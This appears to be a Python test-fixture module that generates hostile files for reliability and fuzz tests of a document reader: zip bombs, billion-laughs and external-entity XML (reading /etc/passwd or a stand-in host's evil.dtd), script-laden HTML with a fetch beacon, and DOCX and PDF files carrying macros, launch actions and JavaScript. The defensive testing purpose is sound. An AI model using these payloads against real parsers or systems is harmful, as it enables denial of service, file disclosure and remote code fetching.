"""Hostile input files, generated at test time (nothing big is committed).

Every function writes into a folder the caller owns (a pytest ``tmp_path``) and returns
the path. The files are what a translator's laptop meets in e-mail attachments and
scraped pages: zip bombs, XML entity attacks, absurd nesting, broken PDFs, lying sizes,
direction-override tricks. Used by tests/test_reliability_*.py, tests/test_fuzz_*.py and
tests/fuzz/fuzz_readers.py.
"""

from __future__ import annotations

import io
import os
import random
import zipfile
from pathlib import Path

W_NS = "http://schemas.openxmlformats.org/wordprocessingml/2006/main"
PASSWD_MARK = "root:"  # what /etc/passwd would leak if an entity were resolved

CONTENT_TYPES = (
    '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>'
    '<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types">'
    '<Default Extension="rels" ContentType="application/vnd.openxmlformats-package.relationships+xml"/>'
    '<Default Extension="xml" ContentType="application/xml"/>'
    '<Override PartName="/word/document.xml" '
    'ContentType="application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml"/>'
    "</Types>"
)
RELS = (
    '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>'
    '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
    '<Relationship Id="rId1" '
    'Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/officeDocument" '
    'Target="word/document.xml"/></Relationships>'
)
STYLES = (
    f'<?xml version="1.0" encoding="UTF-8" standalone="yes"?><w:styles xmlns:w="{W_NS}">'
    '<w:style w:type="paragraph" w:styleId="Heading1"><w:name w:val="heading 1"/></w:style></w:styles>'
)


def _escape(text: str) -> str:
    return text.replace("&", "&amp;").replace("<", "&lt;").replace(">", "&gt;")


def document_xml(paragraphs: list[str], *, prolog: str = "", body_extra: str = "") -> str:
    """A WordprocessingML body with one ``w:p`` per paragraph; ``prolog`` goes before the root."""
    ps = "".join(f'<w:p><w:r><w:t xml:space="preserve">{_escape(p)}</w:t></w:r></w:p>' for p in paragraphs)
    return (f'<?xml version="1.0" encoding="UTF-8" standalone="yes"?>{prolog}'
            f'<w:document xmlns:w="{W_NS}"><w:body>{ps}{body_extra}</w:body></w:document>')


def docx_parts(paragraphs: list[str]) -> dict[str, bytes]:
    """The parts of a minimal valid DOCX holding ``paragraphs``."""
    return {
        "[Content_Types].xml": CONTENT_TYPES.encode(),
        "_rels/.rels": RELS.encode(),
        "word/document.xml": document_xml(paragraphs).encode(),
        "word/styles.xml": STYLES.encode(),
    }


def write_zip(path: Path, parts: dict[str, bytes], compression: int = zipfile.ZIP_DEFLATED) -> Path:
    with zipfile.ZipFile(path, "w", compression) as zf:
        for name, data in parts.items():
            zf.writestr(name, data)
    return path


def docx_bytes(paragraphs: list[str]) -> bytes:
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED) as zf:
        for name, data in docx_parts(paragraphs).items():
            zf.writestr(name, data)
    return buffer.getvalue()


def valid_docx(folder: Path, paragraphs: list[str], name: str = "ok.docx") -> Path:
    return write_zip(Path(folder) / name, docx_parts(paragraphs))


# -- zip bombs ---------------------------------------------------------------------------------

def zip_bomb_docx(folder: Path, inflated_mb: int = 64) -> Path:
    """One part of ``inflated_mb`` MB of zeros (ratio ~1000:1), streamed so building stays cheap."""
    path = Path(folder) / "bomb.docx"
    parts = docx_parts(["bomb"])
    with zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED) as zf:
        for name, data in parts.items():
            zf.writestr(name, data)
        with zf.open("word/media/bomb.bin", "w", force_zip64=True) as out:
            chunk = b"\0" * (1 << 20)
            for _ in range(inflated_mb):
                out.write(chunk)
    return path


def wide_zip_bomb_docx(folder: Path, parts: int = 260, part_bytes: int = 900 * 1024) -> Path:
    """Many parts, each under the per-part ratio check, summing past the uncompressed cap."""
    path = Path(folder) / "wide-bomb.docx"
    base = docx_parts(["wide bomb"])
    chunk = b"\0" * part_bytes
    with zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED) as zf:
        for name, data in base.items():
            zf.writestr(name, data)
        for i in range(parts):
            zf.writestr(f"word/media/p{i}.bin", chunk)
    return path


def lying_zip_docx(folder: Path, real_mb: int = 40, claimed: int = 2000) -> Path:
    """``word/document.xml`` whose headers claim ``claimed`` bytes but which inflates to ``real_mb`` MB."""
    path = Path(folder) / "liar.docx"
    parts = docx_parts(["liar"])
    body = document_xml(["x" * 100]).encode()
    parts["word/document.xml"] = body + b" " * (real_mb * 1024 * 1024)
    write_zip(path, parts)
    raw = bytearray(path.read_bytes())
    target = b"word/document.xml"
    pos = 0
    while True:  # patch the size in every local header and central directory entry of that part
        pos = raw.find(target, pos)
        if pos < 0:
            break
        if raw[pos - 46:pos - 42] == b"PK\x01\x02":
            raw[pos - 46 + 24:pos - 46 + 28] = claimed.to_bytes(4, "little")
        elif raw[pos - 30:pos - 26] == b"PK\x03\x04":
            raw[pos - 30 + 22:pos - 30 + 26] = claimed.to_bytes(4, "little")
        pos += len(target)
    path.write_bytes(bytes(raw))
    return path


# -- XML entity attacks ------------------------------------------------------------------------

def billion_laughs_prolog(root: str = "w:document") -> str:
    lols = ['<!ENTITY lol0 "lol">'] + [f'<!ENTITY lol{i} "{("&lol" + str(i - 1) + ";") * 10}">' for i in range(1, 10)]
    return f"<!DOCTYPE {root} [{''.join(lols)}]>"


def external_entity_prolog(url: str, root: str = "w:document") -> str:
    return f'<!DOCTYPE {root} [<!ENTITY xxe SYSTEM "{url}">]>'


def parameter_entity_prolog(url: str, root: str = "w:document") -> str:
    return f'<!DOCTYPE {root} [<!ENTITY % remote SYSTEM "{url}"> %remote;]>'


def entity_docx(folder: Path, part: str, attack: str, *, encoding: str = "utf-8", name: str | None = None) -> Path:
    """A DOCX whose ``part`` carries ``attack``: ``laughs``, ``file``, ``http`` or ``param``.

    The attacked part uses the entity in its text where that part has text (document.xml).
    """
    parts = docx_parts(["A harmless visible sentence."])
    root = {"word/document.xml": "w:document", "word/styles.xml": "w:styles",
            "[Content_Types].xml": "Types", "docProps/core.xml": "cp:coreProperties",
            "word/footnotes.xml": "w:footnotes"}[part]
    prolog = {
        "laughs": billion_laughs_prolog(root),
        "file": external_entity_prolog("file:///etc/passwd", root),
        "http": external_entity_prolog("http://203.0.113.7/x.dtd", root),
        "param": parameter_entity_prolog("http://203.0.113.7/evil.dtd", root),
    }[attack]
    ref = "&lol9;" if attack == "laughs" else ("&xxe;" if attack in ("file", "http") else "")
    if part == "word/document.xml":
        xml = document_xml(["A harmless visible sentence."], prolog=prolog,
                           body_extra=f"<w:p><w:r><w:t>{ref}</w:t></w:r></w:p>")
    elif part == "word/styles.xml":
        xml = STYLES.replace("?>", "?>" + prolog, 1).replace('w:val="heading 1"', f'w:val="heading 1{ref}"')
    elif part == "[Content_Types].xml":
        xml = CONTENT_TYPES.replace("?>", "?>" + prolog, 1)
    elif part == "docProps/core.xml":
        xml = ('<?xml version="1.0" encoding="UTF-8"?>' + prolog +
               '<cp:coreProperties xmlns:cp="http://schemas.openxmlformats.org/package/2006/metadata/core-properties"'
               f' xmlns:dc="http://purl.org/dc/elements/1.1/"><dc:title>{ref}</dc:title></cp:coreProperties>')
    else:
        xml = (f'<?xml version="1.0" encoding="UTF-8"?>{prolog}<w:footnotes xmlns:w="{W_NS}">'
               f'<w:footnote w:id="1"><w:p><w:r><w:t>{ref}</w:t></w:r></w:p></w:footnote></w:footnotes>')
    if encoding != "utf-8":
        xml = xml.replace('encoding="UTF-8"', f'encoding="{encoding.upper()}"')
        data = xml.encode(encoding)  # "utf-16"/"utf-32" get a BOM, "utf-16-be" none
    else:
        data = xml.encode()
    parts[part] = data
    tag = name or f"{attack}-{part.replace('/', '_').strip('[]')}-{encoding}.docx"
    return write_zip(Path(folder) / tag, parts)


# -- HTML --------------------------------------------------------------------------------------

SCRIPT_MARK = "SCRIPT-MUST-NOT-APPEAR"


def hostile_html(folder: Path, name: str = "page.html") -> Path:
    """Scripts, event handlers, iframes, remote resources and a meta refresh around one article."""
    html = f"""<!DOCTYPE html><html><head><meta charset="utf-8">
<meta http-equiv="refresh" content="0; url=http://203.0.113.7/">
<link rel="stylesheet" href="http://203.0.113.7/s.css"><script src="http://203.0.113.7/a.js"></script>
<script>document.write("{SCRIPT_MARK}"); fetch("http://203.0.113.7/beacon");</script>
<style>body {{ background: url(http://203.0.113.7/bg.png) }} /* {SCRIPT_MARK} */</style></head>
<body onload="alert('{SCRIPT_MARK}')">
<iframe src="http://203.0.113.7/frame">{SCRIPT_MARK}</iframe>
<article><h1>عنوان الخبر</h1>
<p>قال المتحدث إن الاجتماع سيعقد غدا في العاصمة.</p>
<img src="http://203.0.113.7/pixel.gif" onerror="{SCRIPT_MARK}">
<p>وأضاف أن الوفود ستصل صباحا.</p></article>
<noscript>{SCRIPT_MARK}</noscript><object data="http://203.0.113.7/x.swf">{SCRIPT_MARK}</object>
<svg><script>{SCRIPT_MARK}</script></svg><template>{SCRIPT_MARK}</template>
</body></html>"""
    path = Path(folder) / name
    path.write_text(html, encoding="utf-8")
    return path


def deep_html(depth: int = 100_000, tag: str = "div") -> str:
    """``depth`` nested elements around one sentence."""
    return "<html><body>" + f"<{tag}>" * depth + "نص عميق جدا." + f"</{tag}>" * depth + "</body></html>"


# -- PDF ---------------------------------------------------------------------------------------

def _pdf_objects(text: str = "Hello PDF world.") -> list[bytes]:
    stream = f"BT /F1 12 Tf 72 720 Td ({text}) Tj ET".encode()
    return [
        b"<< /Type /Catalog /Pages 2 0 R >>",
        b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
        b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 612 792] /Contents 4 0 R "
        b"/Resources << /Font << /F1 5 0 R >> >> >>",
        b"<< /Length %d >>\nstream\n" % len(stream) + stream + b"\nendstream",
        b"<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica >>",
    ]


def pdf_bytes(objects: list[bytes] | None = None, *, xref: bool = True, break_xref: bool = False) -> bytes:
    """A tiny hand-written PDF (Helvetica text) with a correct, broken or missing xref."""
    objects = objects or _pdf_objects()
    out = bytearray(b"%PDF-1.4\n%\xe2\xe3\xcf\xd3\n")
    offsets = []
    for i, body in enumerate(objects, 1):
        offsets.append(len(out))
        out += b"%d 0 obj\n" % i + body + b"\nendobj\n"
    start = len(out)
    if xref:
        out += b"xref\n0 %d\n0000000000 65535 f \n" % (len(objects) + 1)
        for off in offsets:
            off = (off * 7 + 13) % 9_999_999 if break_xref else off
            out += b"%010d 00000 n \n" % off
    out += b"trailer\n<< /Size %d /Root 1 0 R >>\nstartxref\n%d\n%%%%EOF\n" % (
        len(objects) + 1, (start + 5 if break_xref else start) if xref else 999_999)
    return bytes(out)


def valid_pdf(folder: Path, text: str = "Hello PDF world.", name: str = "ok.pdf") -> Path:
    path = Path(folder) / name
    path.write_bytes(pdf_bytes(_pdf_objects(text)))
    return path


def broken_xref_pdf(folder: Path) -> Path:
    path = Path(folder) / "broken-xref.pdf"
    path.write_bytes(pdf_bytes(break_xref=True))
    return path


def no_xref_pdf(folder: Path) -> Path:
    path = Path(folder) / "no-xref.pdf"
    path.write_bytes(pdf_bytes(xref=False))
    return path


def count_lie_pdf(folder: Path, count: int = 10**9) -> Path:
    """One real page, but the page tree claims ``count`` pages."""
    objects = _pdf_objects()
    objects[1] = b"<< /Type /Pages /Kids [3 0 R] /Count %d >>" % count
    path = Path(folder) / "count-lie.pdf"
    path.write_bytes(pdf_bytes(objects))
    return path


def recursive_pages_pdf(folder: Path) -> Path:
    """A page tree whose /Kids points back at itself."""
    objects = _pdf_objects()
    objects[1] = b"<< /Type /Pages /Kids [2 0 R 3 0 R] /Count 2 >>"
    path = Path(folder) / "loop.pdf"
    path.write_bytes(pdf_bytes(objects))
    return path


def many_pages_pdf(folder: Path, pages: int = 20_000, text_every: int = 0) -> Path:
    """``pages`` empty pages made with pypdf (optionally text on every ``text_every``-th page)."""
    import pypdf

    writer = pypdf.PdfWriter()
    for _ in range(pages):
        writer.add_blank_page(width=200, height=200)
    path = Path(folder) / f"pages-{pages}.pdf"
    with open(path, "wb") as handle:
        writer.write(handle)
    return path


def mutate(data: bytes, rng: random.Random, n: int = 8) -> bytes:
    """``data`` with a few random byte flips, a truncation, a cut or a duplicated slice."""
    buf = bytearray(data)
    for _ in range(rng.randint(1, n)):
        if not buf:
            break
        op = rng.random()
        i = rng.randrange(len(buf))
        if op < 0.5:
            buf[i] = rng.randrange(256)
        elif op < 0.65:
            del buf[i:]
        elif op < 0.8:
            del buf[i:i + rng.randint(1, 64)]
        else:
            j = rng.randrange(len(buf))
            buf[i:i] = buf[j:j + rng.randint(1, 64)]
    return bytes(buf)


def mutate_docx_parts(parts: dict[str, bytes], rng: random.Random) -> dict[str, bytes]:
    """Structured DOCX mutation: drop a part, swap parts, or mutate one part's XML."""
    parts = dict(parts)
    op = rng.random()
    names = list(parts)
    if op < 0.25 and names:
        del parts[rng.choice(names)]
    elif op < 0.4 and len(names) > 1:
        a, b = rng.sample(names, 2)
        parts[a], parts[b] = parts[b], parts[a]
    else:
        name = rng.choice(names)
        parts[name] = mutate(parts[name], rng)
    return parts


# -- size and text tricks ----------------------------------------------------------------------

def sparse_file(folder: Path, name: str, size: int = 10 * 1024**3) -> Path:
    """A file that claims ``size`` bytes without using disk space (truncate)."""
    path = Path(folder) / name
    with open(path, "wb") as handle:
        handle.truncate(size)
    return path


BIDI_CHARS = "\u202a\u202b\u202c\u202d\u202e\u2066\u2067\u2068\u2069\u200e\u200f\u061c"
OVERRIDES = "\u202a\u202b\u202c\u202d\u202e\u2066\u2067\u2068\u2069"


def with_bidi(text: str, rng: random.Random | None = None) -> str:
    """``text`` with direction controls sprinkled between words (a 'Trojan Source' style trick)."""
    rng = rng or random.Random(7)
    words = text.split(" ")
    out = []
    for w in words:
        out.append(rng.choice(OVERRIDES) + w + rng.choice(OVERRIDES))
    return " ".join(out)


def invalid_utf8() -> bytes:
    return b"\xd9\x82\xd8\xa7\xd9\x84 \xff\xfe\xc0\xaf \xed\xa0\x80 overlong and surrogates \xf8\x88\x80\x80\x80.\n"


def nul_bytes() -> bytes:
    return "نص عربي.".encode() + b"\x00" * 64 + b"more\x00text\n"


def pathological_text(kind: str, n: int = 200_000) -> str:
    """Inputs that trip naive regexes: long runs of stops, dots, spaces, one giant word."""
    return {
        "dots": "." * n,
        "stops": "؟!." * (n // 3),
        "spaced_dots": ". " * (n // 2),
        "word": "ب" * n,
        "abbrev": "U.S. " * (n // 5),
        "newlines": "\n" * n,
        "mixed": ("د. " + "أ.ب.ج " * 5 + "1.5 ") * (n // 40),
    }[kind]


def file_size(path: Path) -> int:
    return os.stat(path).st_size


# -- active content: macros, external relationships, PDF actions --------------------------------

LAUNCH_MARK = "desk-launch-must-not-exist"


def active_docx(folder: Path) -> Path:
    """A DOCX with a VBA project, an external template and an external image (remote fetch bait)."""
    parts = docx_parts(["Macros must never run."])
    parts["word/vbaProject.bin"] = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\0" * 512
    parts["word/_rels/document.xml.rels"] = (
        b'<?xml version="1.0" encoding="UTF-8" standalone="yes"?>'
        b'<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
        b'<Relationship Id="rId9" Type="http://schemas.microsoft.com/office/2006/relationships/vbaProject" '
        b'Target="vbaProject.bin"/>'
        b'<Relationship Id="rId8" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/'
        b'attachedTemplate" Target="http://203.0.113.7/template.dotm" TargetMode="External"/>'
        b'<Relationship Id="rId7" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/image" '
        b'Target="file:///etc/passwd" TargetMode="External"/></Relationships>'
    )
    return write_zip(Path(folder) / "active.docx", parts)


def active_pdf(folder: Path) -> Path:
    """A PDF whose catalog has an /OpenAction JavaScript and a /Launch action, and a /URI link."""
    objects = _pdf_objects("Actions must never run.")
    objects[0] = (b"<< /Type /Catalog /Pages 2 0 R /OpenAction 6 0 R "
                  b"/Names << /JavaScript << /Names [(x) 7 0 R] >> >> >>")
    objects.append(b"<< /S /Launch /F (/usr/bin/touch) /Win << /F (cmd.exe) >> /P (/tmp/" +
                   LAUNCH_MARK.encode() + b") >>")
    objects.append(b"<< /S /JavaScript /JS (app.launchURL\\('http://203.0.113.7/'\\);) >>")
    path = Path(folder) / "active.pdf"
    path.write_bytes(pdf_bytes(objects))
    return path
